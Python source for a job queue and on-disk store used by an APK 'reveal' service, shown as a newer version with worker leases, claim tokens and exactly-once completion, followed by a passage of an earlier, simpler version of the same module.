*claims* the best queued record (priority lane, then submission order)
by winning an exclusive *claim token* — ``claims/<job_id>.<generation>``
created with ``O_CREAT | O_EXCL`` — so two workers racing the same
record resolve to exactly one owner per lease generation, including
across processes and hosts sharing the store directory.  A claim stamps
the record with a *lease* (worker id, expiry, generation in
``lease_seq``); the owner extends it with :meth:`JobStore.heartbeat`
and finishes with :meth:`JobStore.complete_leased`.

Crash-safe handoff falls out of the generations: a worker that dies
mid-job stops heartbeating, its lease expires, and the record becomes
claimable again at the *next* generation.  Writes from the dead (or
merely slow) first owner are *fenced* — heartbeat and completion verify
the record still carries their generation, and completion additionally
takes a once-only ``claims/<job_id>.done`` token — so a job revealed by
two overlapping owners still completes exactly once.
"""

from __future__ import annotations

import base64
import dataclasses
import json
import os
import threading
import time

from repro import faults
from repro.runtime.apk import Apk
from repro.runtime.device import DeviceProfile
from repro.service.outcomes import RevealOutcome

STORE_FORMAT_VERSION = 1

#: Default seconds a worker lease stays live without a heartbeat.
LEASE_TTL_DEFAULT_S = 30.0

#: ``JobStore.heartbeat`` results: keep going, stop (operator cancel),
#: or abandon (another worker holds the lease now).
HEARTBEAT_OK = "ok"
HEARTBEAT_CANCELLED = "cancelled"
HEARTBEAT_LOST = "lost"

PRIORITY_HIGH = 0
PRIORITY_NORMAL = 1
PRIORITY_LOW = 2

#: Name ↔ lane mapping for CLIs and JSON records.
PRIORITIES = {
    "high": PRIORITY_HIGH,
    "normal": PRIORITY_NORMAL,
    "low": PRIORITY_LOW,
}

PRIORITY_NAMES = {lane: name for name, lane in PRIORITIES.items()}


def resolve_priority(priority) -> int:
    """Accept a lane int or a name; reject anything else."""
    if isinstance(priority, bool):
        raise ValueError(f"not a priority: {priority!r}")
    if isinstance(priority, int):
        if priority not in PRIORITY_NAMES:
            raise ValueError(
                f"priority {priority!r} not one of "
                f"{sorted(PRIORITY_NAMES)}"
            )
        return priority
    if isinstance(priority, str) and priority in PRIORITIES:
        return PRIORITIES[priority]
    raise ValueError(
        f"priority {priority!r} not one of {sorted(PRIORITIES)}"
    )


class JobState:
    """The lifecycle states and the transitions between them."""

    QUEUED = "queued"
    RUNNING = "running"
    DONE = "done"
    FAILED = "failed"
    CANCELLED = "cancelled"

    ALL = (QUEUED, RUNNING, DONE, FAILED, CANCELLED)
    TERMINAL = frozenset((DONE, FAILED, CANCELLED))

    #: Legal next states; anything else is a server bug.  The fleet
    #: protocol widened the ``RUNNING`` row: a running job may return
    #: to ``QUEUED`` (its worker's lease expired and a restarted server
    #: re-adopted it) or resolve ``CANCELLED`` (an operator cancel the
    #: owning worker acknowledged at its next heartbeat).
    TRANSITIONS = {
        QUEUED: frozenset((RUNNING, CANCELLED)),
        RUNNING: frozenset((DONE, FAILED, CANCELLED, QUEUED)),
        DONE: frozenset(),
        FAILED: frozenset(),
        CANCELLED: frozenset(),
    }

    @classmethod
    def can_transition(cls, current: str, target: str) -> bool:
        return target in cls.TRANSITIONS.get(current, frozenset())


class JobHandle:
    """The caller's view of one submitted job.

    State mutation belongs to the server (under its queue lock); the
    handle exposes reads, the blocking :meth:`wait`, and derived
    latencies.  ``queue_wait_s`` is submit→start — the number the
    backpressure design is judged by — and ``run_s`` is start→finish.
    """

    def __init__(self, job_id: str, app_id: str,
                 priority: int = PRIORITY_NORMAL,
                 submitted_at: float | None = None) -> None:
        self.job_id = job_id
        self.app_id = app_id
        self.priority = priority
        self.state = JobState.QUEUED
        self.submitted_at = (time.time() if submitted_at is None
                             else submitted_at)
        self.started_at: float | None = None
        self.finished_at: float | None = None
        self.outcome: RevealOutcome | None = None
        self.error: str = ""
        #: Fleet bookkeeping (populated from journalled records): which
        #: worker holds/held the lease, how many times the job was
        #: claimed, and the content digests of its stored artifacts.
        self.worker_id: str = ""
        self.attempts: int = 0
        self.artifacts: dict = {}
        # The outcome digest when the full RevealOutcome is not in this
        # process (a handle rebuilt from a store record or a gateway
        # response); ``to_dict`` falls back to it.
        self._outcome_summary: dict | None = None
        self._terminal = threading.Event()
        # Server bookkeeping: True once the ``submitted`` event is on
        # the bus, so a cancel racing submit() defers its ``cancelled``
        # event instead of publishing it first.
        self._announced = False

    # -- derived views ------------------------------------------------------

    @property
    def done(self) -> bool:
        """Terminal in any flavour — done, failed or cancelled."""
        return self.state in JobState.TERMINAL

    @property
    def cancelled(self) -> bool:
        return self.state == JobState.CANCELLED

    @property
    def queue_wait_s(self) -> float:
        """Seconds from submit to start (0 until the job starts)."""
        if self.started_at is None:
            return 0.0
        return max(0.0, self.started_at - self.submitted_at)

    @property
    def run_s(self) -> float:
        """Seconds from start to finish (0 until the job finishes)."""
        if self.started_at is None or self.finished_at is None:
            return 0.0
        return max(0.0, self.finished_at - self.started_at)

    # -- waiting ------------------------------------------------------------

    def wait(self, timeout: float | None = None) -> RevealOutcome | None:
        """Block until terminal; the outcome, or ``None`` on timeout or
        cancellation (cancelled jobs never produce one)."""
        self._terminal.wait(timeout)
        return self.outcome

    def _mark_terminal(self) -> None:
        self._terminal.set()

    # -- presentation -------------------------------------------------------

    def outcome_summary(self) -> dict | None:
        """The outcome digest, whatever the handle's provenance."""
        if self.outcome is not None:
            return self.outcome.to_summary()
        return self._outcome_summary

    def to_dict(self) -> dict:
        """JSON-safe digest (no outcome payload beyond the summary).

        This is *the* job-status wire shape: the ``status``/``watch``
        CLI and the gateway's ``GET /v1/jobs/<id>`` all serialise it,
        so every surface reports one vocabulary.
        """
        summary = self.outcome_summary()
        return {
            "job_id": self.job_id,
            "app_id": self.app_id,
            "priority": PRIORITY_NAMES.get(self.priority, self.priority),
            "state": self.state,
            "status": (summary or {}).get("status", ""),
            "submitted_at": self.submitted_at,
            "started_at": self.started_at,
            "finished_at": self.finished_at,
            "queue_wait_s": round(self.queue_wait_s, 6),
            "run_s": round(self.run_s, 6),
            "error": self.error,
            "worker_id": self.worker_id,
            "attempts": self.attempts,
            "artifacts": dict(self.artifacts),
            "outcome": summary,
        }

    @classmethod
    def from_record(cls, record: dict) -> "JobHandle":
        """Rebuild a handle from a journalled store record.

        The single path every status surface shares — a handle built
        here renders via :meth:`to_dict` exactly like a live server
        handle does.  Terminal records arrive pre-resolved (``wait``
        returns immediately); non-terminal ones have no waiter wired
        up, so callers poll the store rather than block.
        """
        try:
            priority = resolve_priority(
                record.get("priority", PRIORITY_NORMAL))
        except ValueError:
            priority = PRIORITY_NORMAL
        handle = cls(
            record.get("job_id", ""),
            record.get("app_id", ""),
            priority,
            submitted_at=record.get("submitted_at"),
        )
        state = record.get("state")
        if state in JobState.ALL:
            handle.state = state
        handle.started_at = record.get("started_at")
        handle.finished_at = record.get("finished_at")
        handle.error = record.get("error", "") or ""
        handle._outcome_summary = record.get("outcome")
        lease = record.get("lease") or {}
        handle.worker_id = (record.get("worker_id", "")
                            or lease.get("worker_id", ""))
        handle.attempts = int(record.get("attempts", 0) or 0)
        handle.artifacts = dict(record.get("artifacts") or {})
        if handle.done:
            handle._mark_terminal()
        return handle


class JobStore:
    """JSON-on-disk journal of job records plus an event log.

    Every mutation rewrites the job's record atomically
    (``.tmp`` + ``os.replace``), so a server killed mid-write leaves
    either the old record or the new one, never a torn file.  Records
    the journal cannot parse are skipped on load — a corrupt entry
    costs one job, not the queue — and *counted* in
    :attr:`corrupt_records` (torn event-journal lines likewise in
    :attr:`corrupt_event_lines`), so an operator can tell a clean store
    from one that has been shedding data.
    """

    def __init__(self, path: str, create: bool = True) -> None:
        self.path = path
        self.jobs_dir = os.path.join(path, "jobs")
        self.claims_dir = os.path.join(path, "claims")
        self.events_path = os.path.join(path, "events.jsonl")
        self._lock = threading.Lock()
        #: Unparseable job records seen by this instance (zero-byte or
        #: torn JSON; foreign versions are *not* corrupt, see
        #: :meth:`foreign_version_jobs`).
        self.corrupt_records = 0
        #: Undecodable event-journal lines skipped by :meth:`events`.
        self.corrupt_event_lines = 0
        # ``create=False`` opens for inspection only: status/watch CLIs
        # pointed at a mistyped path must not conjure a store skeleton
        # inside whatever directory happens to be there.
        if create:
            os.makedirs(self.jobs_dir, exist_ok=True)
            os.makedirs(self.claims_dir, exist_ok=True)

    # -- records ------------------------------------------------------------

    @staticmethod
    def encode_apk(apk: Apk) -> str:
        return base64.b64encode(apk.to_bytes()).decode("ascii")

    @staticmethod
    def decode_apk(blob: str) -> Apk:
        return Apk.from_bytes(base64.b64decode(blob.encode("ascii")))

    @staticmethod
    def encode_device(device: DeviceProfile | None) -> dict | None:
        return None if device is None else dataclasses.asdict(device)

    @staticmethod
    def decode_device(data: dict | None) -> DeviceProfile | None:
        return None if not data else DeviceProfile(**data)

    def make_record(self, *, job_id: str, app_id: str, apk: Apk,
                    priority: int = PRIORITY_NORMAL,
                    collect_only: bool = False, cache_salt: str = "",
                    device: DeviceProfile | None = None,
                    submitted_at: float | None = None,
                    metadata: dict | None = None) -> dict:
        """A fresh ``queued`` record, not yet saved.

        ``metadata`` is a JSON-safe caller payload carried verbatim
        (the CLI stores the benchsuite corpus name there so a serving
        process can re-register the corpus's native libraries, which
        are process-global and never travel with the APK bytes).
        """
        return {
            "version": STORE_FORMAT_VERSION,
            "job_id": job_id,
            "app_id": app_id,
            "priority": priority,
            "state": JobState.QUEUED,
            "submitted_at": (time.time() if submitted_at is None
                             else submitted_at),
            "started_at": None,
            "finished_at": None,
            "collect_only": collect_only,
            "cache_salt": cache_salt,
            # The per-job device override travels whole, like it does
            # for process workers; only ``drive`` callables cannot.
            "device": self.encode_device(device),
            "apk_b64": self.encode_apk(apk),
            "outcome": None,
            "error": "",
            "meta": dict(metadata or {}),
            # Fleet fields: which lease generation owns the record (0 =
            # never claimed), by whom, and what it produced.
            "lease_seq": 0,
            "lease": None,
            "worker_id": "",
            "attempts": 0,
            "cancel_requested": False,
            "artifacts": {},
        }

    def save(self, record: dict) -> None:
        self._write(record["job_id"], record)

    def update(self, job_id: str, **fields) -> dict | None:
        """Read-modify-write one record; returns the new record."""
        with self._lock:
            record = self._read(job_id)
            if record is None:
                return None
            record.update(fields)
            self._write_locked(job_id, record)
            return record

    def load(self, job_id: str) -> dict | None:
        with self._lock:
            return self._read(job_id)

    def load_all(self) -> list[dict]:
        """Every parseable record, oldest submission first."""
        with self._lock:
            records = []
            for name in self._job_names():
                if not name.endswith(".json"):
                    continue
                record = self._read(name[: -len(".json")])
                if record is not None:
                    records.append(record)
        records.sort(key=lambda r: (r.get("submitted_at", 0.0),
                                    r.get("job_id", "")))
        return records

    def pending_records(self) -> list[dict]:
        """Records a restarted server still owes: queued, plus running
        ones whose server died mid-job (they re-run from scratch).

        Running records under a *live* worker lease are excluded — a
        server sharing its store with a worker fleet must not steal a
        job another process is actively revealing.  Lease-less running
        records (an in-process server's own orphans) and expired leases
        (a dead worker's) are owed work.
        """
        now = time.time()
        return [
            record for record in self.load_all()
            if record.get("state") == JobState.QUEUED
            or (record.get("state") == JobState.RUNNING
                and not self._lease_live(record, now))
        ]

    # -- worker leases -------------------------------------------------------

    @staticmethod
    def _lease_live(record: dict, now: float) -> bool:
        lease = record.get("lease")
        return bool(lease) and lease.get("expires_at", 0.0) > now

    def claimable_records(self, now: float | None = None) -> list[dict]:
        """Records a worker may lease, best first (lane, then age).

        Queued records (unless an operator already requested their
        cancellation) and running records whose lease expired — the
        crash-handoff case.  Running records *without* a lease belong
        to an in-process :class:`~repro.service.server.RevealServer`
        and are never claimable.
        """
        now = time.time() if now is None else now
        claimable = []
        for record in self.load_all():
            state = record.get("state")
            if state == JobState.QUEUED:
                if not record.get("cancel_requested"):
                    claimable.append(record)
            elif state == JobState.RUNNING:
                lease = record.get("lease")
                if lease and lease.get("expires_at", 0.0) <= now:
                    claimable.append(record)
        claimable.sort(key=lambda r: (r.get("priority", PRIORITY_NORMAL),
                                      r.get("submitted_at", 0.0),
                                      r.get("job_id", "")))
        return claimable

    def try_claim(self, record: dict, worker_id: str, *,
                  lease_ttl_s: float = LEASE_TTL_DEFAULT_S,
                  now: float | None = None) -> dict | None:
        """Attempt to lease one record; the stamped record, or ``None``.

        Ownership is decided by exclusive creation of the generation's
        claim token, so of N workers (threads, processes or hosts on a
        shared mount) racing one record, exactly one wins — the losers
        see ``FileExistsError`` and move to the next candidate.  The
        winner's generation lands in the record as ``lease_seq``; every
        later heartbeat/completion is fenced against it.

        A claimant can die (or its store write can fail) *between*
        taking the token and landing the lease write; the record then
        still shows the old ``lease_seq``, so every later claim would
        recompute the same generation and bounce off the orphaned token
        forever.  Two recoveries close that hole: the token carries the
        claimant's ``worker_id``, so the same worker retrying simply
        finishes its own half-claim; and a *foreign* token whose lease
        never landed within one TTL is stepped past to the next
        generation (record-level fencing keeps a late riser harmless —
        its heartbeat and completion lose to the newer ``lease_seq``).
        """
        now = time.time() if now is None else now
        job_id = record.get("job_id", "")
        if not job_id:
            return None
        generation = int(record.get("lease_seq", 0) or 0) + 1
        while True:
            token = f"{job_id}.{generation}"
            if self._take_token(token, payload=worker_id):
                break
            if self._token_payload(token) == worker_id:
                # Our own half-claim: the lease write crashed after the
                # token landed.  Finish it now.
                break
            if not self._token_stale(token, lease_ttl_s, now=now):
                return None
            generation += 1
        return self.update(
            job_id,
            state=JobState.RUNNING,
            started_at=now,
            lease_seq=generation,
            lease={
                "worker_id": worker_id,
                "acquired_at": now,
                "heartbeat_at": now,
                "expires_at": now + max(0.1, lease_ttl_s),
            },
            attempts=int(record.get("attempts", 0) or 0) + 1,
        )

    def claim_next(self, worker_id: str, *,
                   lease_ttl_s: float = LEASE_TTL_DEFAULT_S,
                   now: float | None = None) -> dict | None:
        """Lease the best claimable record; ``None`` when the queue is
        drained (or every candidate was won by somebody else)."""
        now = time.time() if now is None else now
        for record in self.claimable_records(now):
            claimed = self.try_claim(record, worker_id,
                                     lease_ttl_s=lease_ttl_s, now=now)
            if claimed is not None:
                return claimed
        return None

    def heartbeat(self, job_id: str, lease_seq: int, *,
                  lease_ttl_s: float = LEASE_TTL_DEFAULT_S,
                  now: float | None = None) -> str:
        """Extend a held lease; one of :data:`HEARTBEAT_OK` /
        :data:`HEARTBEAT_CANCELLED` / :data:`HEARTBEAT_LOST`.

        ``cancelled`` tells the owner to stop work and acknowledge with
        :meth:`complete_leased` (state ``cancelled``); ``lost`` means
        the lease expired and another worker claimed the job — the
        caller must abandon it (its eventual completion would be fenced
        off anyway).
        """
        now = time.time() if now is None else now
        with self._lock:
            record = self._read(job_id)
            if record is None:
                return HEARTBEAT_LOST
            if record.get("state") == JobState.CANCELLED:
                return HEARTBEAT_LOST
            if int(record.get("lease_seq", 0) or 0) != lease_seq \
                    or record.get("state") != JobState.RUNNING:
                return HEARTBEAT_LOST
            # The cancelled path still extends the lease: the owner
            # keeps the job fenced while it acknowledges the cancel.
            lease = dict(record.get("lease") or {})
            lease["heartbeat_at"] = now
            lease["expires_at"] = now + max(0.1, lease_ttl_s)
            record["lease"] = lease
            self._write_locked(job_id, record)
            if record.get("cancel_requested"):
                return HEARTBEAT_CANCELLED
            return HEARTBEAT_OK

    def complete_leased(self, job_id: str, lease_seq: int, *,
                        state: str, outcome: dict | None = None,
                        error: str = "", artifacts: dict | None = None,
                        now: float | None = None) -> bool:
        """Terminal write by a lease owner; True when it landed.

        Exactly-once completion rests on two fences: the record must
        still carry the caller's generation in ``lease_seq`` (a
        reclaimed job rejects its previous owner), and the terminal
        write itself takes the once-only ``<job_id>.done`` claim token
        — so even two owners whose fence reads interleave resolve to a
        single completion.  The token records the generation that won
        it, which makes a crashed completion *recoverable*: an owner
        that took the token and then died before the record write finds
        its own generation inside on retry and finishes the write,
        while any other generation still bounces off.
        """
        if state not in JobState.TERMINAL:
            raise ValueError(f"not a terminal state: {state!r}")
        now = time.time() if now is None else now
        with self._lock:
            record = self._read(job_id)
            if record is None:
                return False
            if int(record.get("lease_seq", 0) or 0) != lease_seq \
                    or record.get("state") != JobState.RUNNING:
                return False
            if not JobState.can_transition(record["state"], state):
                return False
            if not self._take_token(f"{job_id}.done",
                                    payload=str(lease_seq)):
                if self._token_payload(f"{job_id}.done") != str(lease_seq):
                    return False
            record["state"] = state
            record["finished_at"] = now
            record["outcome"] = outcome
            record["error"] = error
            if artifacts:
                record["artifacts"] = dict(artifacts)
            # The lease is spent, but who completed the job survives it.
            record["worker_id"] = (record.get("lease")
                                   or {}).get("worker_id", "")
            record["lease"] = None
            record["cancel_requested"] = False
            self._write_locked(job_id, record)
            return True

    def request_cancel(self, job_id: str,
                       now: float | None = None) -> str | None:
        """Ask for a job to stop; how far the request got, or ``None``.

        * ``"cancelled"`` — the job was still queued; it is terminal
          now (the claim token taken here excludes a racing worker).
        * ``"requested"`` — the job is running; the flag is set and the
          owning worker will observe it at its next heartbeat.
        * ``None`` — unknown job, or already terminal.
        """
        now = time.time() if now is None else now
        record = self.load(job_id)
        if record is None:
            return None
        state = record.get("state")
        if state == JobState.QUEUED:
            # Cancellation *is* a claim: winning the next generation's
            # token means no worker can start this record afterwards.
            generation = int(record.get("lease_seq", 0) or 0) + 1
            if not self._take_token(f"{job_id}.{generation}"):
                return None  # a worker just started it; retry as running
            self.update(job_id, state=JobState.CANCELLED,
                        finished_at=now, lease_seq=generation)
            return "cancelled"
        if state == JobState.RUNNING:
            self.update(job_id, cancel_requested=True)
            return "requested"
        return None

    def worker_leases(self, now: float | None = None) -> list[dict]:
        """Live leases (one dict per running worker-held job) for
        fleet dashboards: worker id, job id, expiry headroom."""
        now = time.time() if now is None else now
        leases = []
        for record in self.load_all():
            if record.get("state") != JobState.RUNNING:
                continue
            lease = record.get("lease")
            if not lease:
                continue
            leases.append({
                "job_id": record.get("job_id", ""),
                "app_id": record.get("app_id", ""),
                "worker_id": lease.get("worker_id", ""),
                "lease_seq": record.get("lease_seq", 0),
                "expires_in_s": round(
                    lease.get("expires_at", 0.0) - now, 3),
                "live": self._lease_live(record, now),
            })
        return leases

    def _take_token(self, name: str, payload: str = "") -> bool:
        """Win (or lose) one exclusive claim token.  ``payload`` is a
        breadcrumb stored inside (the ``.done`` token keeps the winning
        generation there, see :meth:`complete_leased`)."""
        faults.check("jobstore.claim.token")
        try:
            fd = os.open(os.path.join(self.claims_dir, name),
                         os.O_CREAT | os.O_EXCL | os.O_WRONLY)
        except FileExistsError:
            return False
        except OSError:
            # A store created by an older build has no claims/ yet;
            # materialise it once and retry rather than failing the
            # claim (the token is the correctness anchor).
            try:
                os.makedirs(self.claims_dir, exist_ok=True)
                fd = os.open(os.path.join(self.claims_dir, name),
                             os.O_CREAT | os.O_EXCL | os.O_WRONLY)
            except OSError:
                return False
        if payload:
            os.write(fd, payload.encode("utf-8"))
        os.close(fd)
        return True

    def _token_payload(self, name: str) -> str:
        """Breadcrumb inside an existing claim token ('' when absent or
        unreadable — an empty read is treated as *not mine*, so a racer
        that lost simply retries later)."""
        try:
            with open(os.path.join(self.claims_dir, name),
                      encoding="utf-8") as fh:
                return fh.read().strip()
        except OSError:
            return ""

    def _token_stale(self, name: str, ttl_s: float, *,
                     now: float | None = None) -> bool:
        """True when an existing claim token outlived one lease TTL
        without its lease write ever landing — the claimant died
        between the token and the record stamp.  A live racer's token
        is younger than that (its write lands within milliseconds), so
        fresh tokens are never stale; a missing token is not stale
        either (the loser just retries)."""
        now = time.time() if now is None else now
        try:
            taken_at = os.path.getmtime(os.path.join(self.claims_dir, name))
        except OSError:
            return False
        return now - taken_at > max(0.1, ttl_s)

    def foreign_version_jobs(self) -> list[tuple[str, object]]:
        """``(job_id, version)`` for parseable records this build cannot
        read (``version`` != :data:`STORE_FORMAT_VERSION`).

        ``load_all`` silently skips such records so a mixed-version
        store stays usable for the jobs it *can* read; inspection
        commands call this first so a foreign store errors loudly
        instead of rendering as an empty (or forever-pending) queue.
        """
        with self._lock:
            foreign = []
            for name in sorted(self._job_names()):
                if not name.endswith(".json"):
                    continue
                try:
                    with open(os.path.join(self.jobs_dir, name),
                              encoding="utf-8") as fh:
                        record = json.load(fh)
                except (OSError, ValueError):
                    continue
                version = record.get("version")
                if version != STORE_FORMAT_VERSION:
                    foreign.append((name[: -len(".json")], version))
            return foreign

    # -- event log ----------------------------------------------------------

    def append_event(self, event_dict: dict) -> None:
        with self._lock:
            with open(self.events_path, "a", encoding="utf-8") as fh:
                faults.append_line(fh, json.dumps(event_dict) + "\n",
                                   site="jobstore.events.append")

    def events(self) -> list[dict]:
        """Every journalled event, ordered by bus sequence number.

        Append order can transpose neighbouring events from different
        jobs (observer callbacks run outside the bus lock), so the read
        path restores the global order by ``seq``; torn tail lines (a
        killed server mid-write) are skipped.
        """
        try:
            with open(self.events_path, encoding="utf-8") as fh:
                lines = fh.readlines()
        except OSError:
            return []
        events = []
        for line in lines:
            try:
                events.append(json.loads(line))
            except ValueError:
                self.corrupt_event_lines += 1
                continue
        # Timestamp first: sequence numbers restart at 0 with every
        # server process, so a journal spanning a restart would
        # interleave the two runs if sorted by seq alone.
        events.sort(key=lambda e: (e.get("timestamp", 0.0),
                                   e.get("seq", 0)))
        return events

    def tail_events(self, offset: int = 0) -> tuple[list[dict], int]:
        """Events appended after byte ``offset``: ``(events, new_offset)``.

        The incremental read a follower (``watch --follow``) uses so an
        idle poll costs one seek, not a whole-journal re-parse.  Only
        complete lines are consumed; a torn tail stays unconsumed for
        the next call.
        """
        try:
            with open(self.events_path, "rb") as fh:
                fh.seek(offset)
                blob = fh.read()
        except OSError:
            return [], offset
        end = blob.rfind(b"\n")
        if end < 0:
            return [], offset
        events = []
        for line in blob[:end].split(b"\n"):
            try:
                events.append(json.loads(line.decode("utf-8")))
            except (ValueError, UnicodeDecodeError):
                continue
        return events, offset + end + 1

    # -- internals ----------------------------------------------------------

    def _job_names(self) -> list[str]:
        """Entries of ``jobs/``; empty when the directory is absent
        (a ``create=False`` store opened on a non-store path)."""
        try:
            return os.listdir(self.jobs_dir)
        except OSError:
            return []

    def _json_path(self, job_id: str) -> str:
        return os.path.join(self.jobs_dir, f"{job_id}.json")

    def _read(self, job_id: str) -> dict | None:
        try:
            with open(self._json_path(job_id), encoding="utf-8") as fh:
                record = json.load(fh)
        except OSError:
            return None
        except ValueError:
            # Zero-byte or torn JSON: report, don't silently swallow.
            self.corrupt_records += 1
            return None
        if record.get("version") != STORE_FORMAT_VERSION:
            return None
        return record

    def _write(self, job_id: str, record: dict) -> None:
        with self._lock:
            self._write_locked(job_id, record)

    def _write_locked(self, job_id: str, record: dict) -> None:
        faults.atomic_write_json(self._json_path(job_id), record,
                                 site="jobstore.record.write")
