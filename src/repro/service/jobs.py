"""Job lifecycle primitives for the reveal server.

A *job* is one application's trip through the service:
``queued → running → done | failed | cancelled``.  This module owns the
three pieces the server composes:

* :class:`JobState` — the five states and the legal transitions;
* :class:`JobHandle` — the caller's view of one submitted job: state,
  timestamps (submit / start / finish), priority, the final
  :class:`~repro.service.outcomes.RevealOutcome`, and a blocking
  :meth:`JobHandle.wait`;
* :class:`JobStore` — a JSON-on-disk journal of job records plus an
  append-only event log, so a killed server can be restarted against
  the same directory and finish the jobs it still owes (the queue
  analogue of ``resume_exploration()`` resuming a run).

Store layout
------------

``<store>/jobs/<job_id>.json``
    One record per job, rewritten atomically on every state change.
    The serialised APK travels inside the record (base64), so a
    restarted server can rebuild the :class:`~repro.service.batch.RevealJob`
    without the submitting process.
``<store>/events.jsonl``
    Every :class:`~repro.service.events.JobEvent` the server published,
    one JSON object per line — what ``python -m repro.service watch``
    tails.

Jobs whose ``drive`` callable cannot be serialised are journalled
without it; a resumed run re-executes them with the default drive.
"""

from __future__ import annotations

import base64
import dataclasses
import json
import os
import threading
import time

from repro.runtime.apk import Apk
from repro.runtime.device import DeviceProfile
from repro.service.outcomes import RevealOutcome

STORE_FORMAT_VERSION = 1

PRIORITY_HIGH = 0
PRIORITY_NORMAL = 1
PRIORITY_LOW = 2

#: Name ↔ lane mapping for CLIs and JSON records.
PRIORITIES = {
    "high": PRIORITY_HIGH,
    "normal": PRIORITY_NORMAL,
    "low": PRIORITY_LOW,
}

PRIORITY_NAMES = {lane: name for name, lane in PRIORITIES.items()}


def resolve_priority(priority) -> int:
    """Accept a lane int or a name; reject anything else."""
    if isinstance(priority, bool):
        raise ValueError(f"not a priority: {priority!r}")
    if isinstance(priority, int):
        if priority not in PRIORITY_NAMES:
            raise ValueError(
                f"priority {priority!r} not one of "
                f"{sorted(PRIORITY_NAMES)}"
            )
        return priority
    if isinstance(priority, str) and priority in PRIORITIES:
        return PRIORITIES[priority]
    raise ValueError(
        f"priority {priority!r} not one of {sorted(PRIORITIES)}"
    )


class JobState:
    """The lifecycle states and the transitions between them."""

    QUEUED = "queued"
    RUNNING = "running"
    DONE = "done"
    FAILED = "failed"
    CANCELLED = "cancelled"

    ALL = (QUEUED, RUNNING, DONE, FAILED, CANCELLED)
    TERMINAL = frozenset((DONE, FAILED, CANCELLED))

    #: Legal next states; anything else is a server bug.
    TRANSITIONS = {
        QUEUED: frozenset((RUNNING, CANCELLED)),
        RUNNING: frozenset((DONE, FAILED)),
        DONE: frozenset(),
        FAILED: frozenset(),
        CANCELLED: frozenset(),
    }

    @classmethod
    def can_transition(cls, current: str, target: str) -> bool:
        return target in cls.TRANSITIONS.get(current, frozenset())


class JobHandle:
    """The caller's view of one submitted job.

    State mutation belongs to the server (under its queue lock); the
    handle exposes reads, the blocking :meth:`wait`, and derived
    latencies.  ``queue_wait_s`` is submit→start — the number the
    backpressure design is judged by — and ``run_s`` is start→finish.
    """

    def __init__(self, job_id: str, app_id: str,
                 priority: int = PRIORITY_NORMAL,
                 submitted_at: float | None = None) -> None:
        self.job_id = job_id
        self.app_id = app_id
        self.priority = priority
        self.state = JobState.QUEUED
        self.submitted_at = (time.time() if submitted_at is None
                             else submitted_at)
        self.started_at: float | None = None
        self.finished_at: float | None = None
        self.outcome: RevealOutcome | None = None
        self.error: str = ""
        self._terminal = threading.Event()
        # Server bookkeeping: True once the ``submitted`` event is on
        # the bus, so a cancel racing submit() defers its ``cancelled``
        # event instead of publishing it first.
        self._announced = False

    # -- derived views ------------------------------------------------------

    @property
    def done(self) -> bool:
        """Terminal in any flavour — done, failed or cancelled."""
        return self.state in JobState.TERMINAL

    @property
    def cancelled(self) -> bool:
        return self.state == JobState.CANCELLED

    @property
    def queue_wait_s(self) -> float:
        """Seconds from submit to start (0 until the job starts)."""
        if self.started_at is None:
            return 0.0
        return max(0.0, self.started_at - self.submitted_at)

    @property
    def run_s(self) -> float:
        """Seconds from start to finish (0 until the job finishes)."""
        if self.started_at is None or self.finished_at is None:
            return 0.0
        return max(0.0, self.finished_at - self.started_at)

    # -- waiting ------------------------------------------------------------

    def wait(self, timeout: float | None = None) -> RevealOutcome | None:
        """Block until terminal; the outcome, or ``None`` on timeout or
        cancellation (cancelled jobs never produce one)."""
        self._terminal.wait(timeout)
        return self.outcome

    def _mark_terminal(self) -> None:
        self._terminal.set()

    # -- presentation -------------------------------------------------------

    def to_dict(self) -> dict:
        """JSON-safe digest (no outcome payload beyond the summary)."""
        return {
            "job_id": self.job_id,
            "app_id": self.app_id,
            "priority": PRIORITY_NAMES.get(self.priority, self.priority),
            "state": self.state,
            "submitted_at": self.submitted_at,
            "started_at": self.started_at,
            "finished_at": self.finished_at,
            "queue_wait_s": round(self.queue_wait_s, 6),
            "run_s": round(self.run_s, 6),
            "error": self.error,
            "outcome": (self.outcome.to_summary()
                        if self.outcome is not None else None),
        }


class JobStore:
    """JSON-on-disk journal of job records plus an event log.

    Every mutation rewrites the job's record atomically
    (``.tmp`` + ``os.replace``), so a server killed mid-write leaves
    either the old record or the new one, never a torn file.  Records
    the journal cannot parse are skipped on load — a corrupt entry
    costs one job, not the queue.
    """

    def __init__(self, path: str, create: bool = True) -> None:
        self.path = path
        self.jobs_dir = os.path.join(path, "jobs")
        self.events_path = os.path.join(path, "events.jsonl")
        self._lock = threading.Lock()
        # ``create=False`` opens for inspection only: status/watch CLIs
        # pointed at a mistyped path must not conjure a store skeleton
        # inside whatever directory happens to be there.
        if create:
            os.makedirs(self.jobs_dir, exist_ok=True)

    # -- records ------------------------------------------------------------

    @staticmethod
    def encode_apk(apk: Apk) -> str:
        return base64.b64encode(apk.to_bytes()).decode("ascii")

    @staticmethod
    def decode_apk(blob: str) -> Apk:
        return Apk.from_bytes(base64.b64decode(blob.encode("ascii")))

    @staticmethod
    def encode_device(device: DeviceProfile | None) -> dict | None:
        return None if device is None else dataclasses.asdict(device)

    @staticmethod
    def decode_device(data: dict | None) -> DeviceProfile | None:
        return None if not data else DeviceProfile(**data)

    def make_record(self, *, job_id: str, app_id: str, apk: Apk,
                    priority: int = PRIORITY_NORMAL,
                    collect_only: bool = False, cache_salt: str = "",
                    device: DeviceProfile | None = None,
                    submitted_at: float | None = None,
                    metadata: dict | None = None) -> dict:
        """A fresh ``queued`` record, not yet saved.

        ``metadata`` is a JSON-safe caller payload carried verbatim
        (the CLI stores the benchsuite corpus name there so a serving
        process can re-register the corpus's native libraries, which
        are process-global and never travel with the APK bytes).
        """
        return {
            "version": STORE_FORMAT_VERSION,
            "job_id": job_id,
            "app_id": app_id,
            "priority": priority,
            "state": JobState.QUEUED,
            "submitted_at": (time.time() if submitted_at is None
                             else submitted_at),
            "started_at": None,
            "finished_at": None,
            "collect_only": collect_only,
            "cache_salt": cache_salt,
            # The per-job device override travels whole, like it does
            # for process workers; only ``drive`` callables cannot.
            "device": self.encode_device(device),
            "apk_b64": self.encode_apk(apk),
            "outcome": None,
            "error": "",
            "meta": dict(metadata or {}),
        }

    def save(self, record: dict) -> None:
        self._write(record["job_id"], record)

    def update(self, job_id: str, **fields) -> dict | None:
        """Read-modify-write one record; returns the new record."""
        with self._lock:
            record = self._read(job_id)
            if record is None:
                return None
            record.update(fields)
            self._write_locked(job_id, record)
            return record

    def load(self, job_id: str) -> dict | None:
        with self._lock:
